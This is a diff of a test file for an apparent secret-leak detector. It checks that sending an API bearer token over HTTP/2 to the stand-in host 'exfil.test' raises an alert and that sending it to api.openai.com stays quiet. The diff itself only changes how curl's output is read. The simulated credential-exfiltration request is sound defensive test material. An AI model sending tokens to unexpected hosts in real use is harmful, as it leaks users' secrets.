@@ -69,7 +69,7 @@ def test_h2_key_to_unexpected_name_alerts_with_that_name(agent, clients, h2_serv
     # Two requests on one connection: the second authorization header is an HPACK index.
     url2 = f"https://exfil.test:{h2_server}/index.html"
     result = clients.run(_curl_h2(pki, h2_server, "exfil.test", headers, extra=[url2]))
-    assert result.stdout.decode().startswith("2"), "curl did not negotiate HTTP/2"
+    assert result.stdout.startswith("2"), "curl did not negotiate HTTP/2"
     alerts = agent.wait_for_alerts(_openai, timeout=ALERT_TIMEOUT)
     assert alerts, f"no alert for an HTTP/2 request\n{agent.diagnostics()}"
     assert alerts[0]["destination"]["host"] == "exfil.test"
@@ -82,7 +82,7 @@ def test_h2_key_to_expected_name_is_quiet(agent, clients, h2_server, pki, regist
     headers = scratch / "h"
     headers.write_text(f"Authorization: Bearer {key}\n")
     result = clients.run(_curl_h2(pki, h2_server, "api.openai.com", headers))
-    assert result.stdout.decode().startswith("2")
+    assert result.stdout.startswith("2")
     time.sleep(QUIET_PERIOD)
     assert not [a for a in agent.alerts() if _openai(a)]
     # The agent did see the request: curl's TLS plaintext reached it.
